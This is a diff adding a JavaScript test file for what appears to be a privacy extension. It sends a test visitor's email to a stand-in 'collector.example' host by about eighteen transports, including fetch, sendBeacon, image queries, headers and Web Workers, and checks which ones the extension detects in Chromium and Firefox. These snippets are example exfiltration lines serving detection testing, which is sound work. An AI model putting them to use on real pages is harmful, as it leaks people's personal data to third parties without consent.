@@ -1,0 +1,78 @@
+/** Which bodies each browser shows to extensions: what the product relies on, transport by transport. */
+
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { LAB } from "../site/lab/answer.js";
+import { Customer } from "./customer.js";
+import { eventually } from "./eventually.js";
+import { browserName, openWatched } from "./stage.js";
+import { nora } from "./visitor.js";
+
+/** @typedef {"found" | "unread" | "part"} Shown - "part": found, and something else could not be read */
+
+/**
+ * A way to send, as code in which `to` is the URL and `text` what is sent, and what is made of it in each browser.
+ *
+ * @type {{ [name: string]: { code: string, chromium: Shown, firefox: Shown } }}
+ */
+const TRANSPORTS = {
+  "fetch-text": { code: "fetch(to, { method: 'POST', mode: 'no-cors', body: text })", chromium: "found", firefox: "found" },
+  "fetch-keepalive": { code: "fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text })", chromium: "found", firefox: "found" },
+  "fetch-bytes": { code: "fetch(to, { method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(text) })", chromium: "found", firefox: "found" },
+  "fetch-put": { code: "fetch(to, { method: 'PUT', body: text })", chromium: "found", firefox: "found" },
+  "fetch-form": { code: "fetch(to, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ text }) })", chromium: "found", firefox: "found" },
+  "fetch-multipart": { code: "const form = new FormData(); form.append('text', text); fetch(to, { method: 'POST', mode: 'no-cors', body: form })", chromium: "found", firefox: "found" },
+  "fetch-blob": { code: "fetch(to, { method: 'POST', mode: 'no-cors', body: new Blob([text]) })", chromium: "unread", firefox: "found" },
+  "fetch-patch": { code: "fetch(to, { method: 'PATCH', body: text })", chromium: "unread", firefox: "found" },
+  "fetch-delete": { code: "fetch(to, { method: 'DELETE', body: text })", chromium: "unread", firefox: "found" },
+  "multipart-file": {
+    code: "const form = new FormData(); form.append('text', text); form.append('file', new File([text], 'note.txt')); fetch(to, { method: 'POST', mode: 'no-cors', body: form })",
+    chromium: "part",
+    firefox: "part",
+  },
+  "xhr-text": { code: "const xhr = new XMLHttpRequest(); xhr.open('POST', to); xhr.send(text)", chromium: "found", firefox: "found" },
+  "beacon-text": { code: "navigator.sendBeacon(to, text)", chromium: "found", firefox: "found" },
+  "beacon-form": { code: "navigator.sendBeacon(to, new URLSearchParams({ text }))", chromium: "found", firefox: "found" },
+  "beacon-blob": { code: "navigator.sendBeacon(to, new Blob([text]))", chromium: "unread", firefox: "found" },
+  "image-query": { code: "new Image().src = to + '?' + new URLSearchParams({ text })", chromium: "found", firefox: "found" },
+  "script-query": { code: "const script = document.createElement('script'); script.src = to + '?' + new URLSearchParams({ text }); document.head.append(script)", chromium: "found", firefox: "found" },
+  "header": { code: "fetch(to, { headers: { 'X-Person': text } })", chromium: "found", firefox: "found" },
+  "worker-fetch": {
+    code: "const source = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`; new Worker(URL.createObjectURL(new Blob([source])))",
+    chromium: "found",
+    firefox: "found",
+  },
+};
+
+/** @type {Awaited<ReturnType<typeof openWatched>>} */
+let stage;
+/** @type {Customer} */
+let customer;
+
+before(async () => {
+  stage = await openWatched(nora);
+  customer = new Customer(stage.browser, nora);
+});
+after(() => stage?.close());
+
+for (const [name, { code, ...shown }] of Object.entries(TRANSPORTS)) {
+  const expected = shown[browserName()];
+  test(`${name}: ${expected}`, async () => {
+    const host = `${name}.collector.example`;
+    const { record } = stage.site;
+    await customer.visit(`${LAB}/?transport=${name}`);
+    const tabId = await stage.extension.tabId();
+    await stage.browser.driver.executeScript(`const [to, text] = arguments; ${code}`, `https://${host}/take`, nora.email);
+    const told = await record.arrival(`${name}'s request`, ({ host: to, method }) => to === host && method !== "OPTIONS");
+    const wire = [decodeURIComponent(told.url), decodeURIComponent(told.body.toString()), ...told.headers.map(([, value]) => value)];
+    assert.ok(wire.some((text) => text.includes(nora.email)), "the server did not get the address");
+
+    await stage.sentinel.passed();
+    const found = (await stage.extension.ledger()).filter(({ finding, counts }) => finding.recipient.host === host && counts.sent > 0);
+    const { unread } = await stage.extension.popup(tabId);
+    assert.deepEqual(
+      { found: found.map(({ finding }) => finding.identifier.id), unread },
+      { found: expected === "unread" ? [] : ["email-1"], unread: expected === "found" ? 0 : 1 },
+    );
+  });
+}
